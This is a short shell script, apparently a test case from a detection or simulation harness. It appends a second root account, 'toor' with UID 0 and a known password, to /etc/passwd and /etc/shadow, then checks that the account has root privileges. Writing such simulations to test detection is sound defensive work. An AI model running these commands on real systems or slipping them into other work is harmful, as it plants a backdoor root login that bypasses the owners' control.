#!/bin/sh
. /opt/case/case.sh

h=$(mkpasswd -m sha512 Bait-1 saltsalt)
printf 'toor:x:0:0:toor:/root:/bin/sh\n' | tee -a /etc/passwd >/dev/null
printf 'toor:%s:19700:0:99999:7:::\n' "$h" | tee -a /etc/shadow >/dev/null
test "$(id -u toor)" = 0
took_place
